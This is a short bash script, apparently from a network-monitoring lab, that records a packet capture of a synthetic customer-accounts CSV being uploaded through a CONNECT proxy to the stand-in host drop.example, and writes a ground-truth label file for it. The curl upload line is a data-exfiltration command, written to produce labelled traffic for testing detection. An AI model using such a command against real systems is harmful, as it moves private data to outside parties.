#!/bin/bash
# SPDX-License-Identifier: GPL-3.0-or-later
# make.sh - record a plain upload inside a CONNECT tunnel.
here=$(cd "$(dirname "$0")" && pwd)
# shellcheck source=/dev/null
. "$here/../make/lab.sh"

table csv accounts 150 >"$LAB/customers.csv"
lab_up
lab_nginx out_
lab_serve out_ 3128 "$PY" "$MAKE/peer.py" proxy 10.20.0.3 3128
lab_record "$here/capture.pcap"
in_ curl -sS -p -x http://10.20.0.3:3128 -H "Content-Type: text/csv" \
    --data-binary "@$LAB/customers.csv" http://drop.example/upload
lab_stop
table truth accounts 150 channel=http party=drop.example \
    >"$here/truth.json"
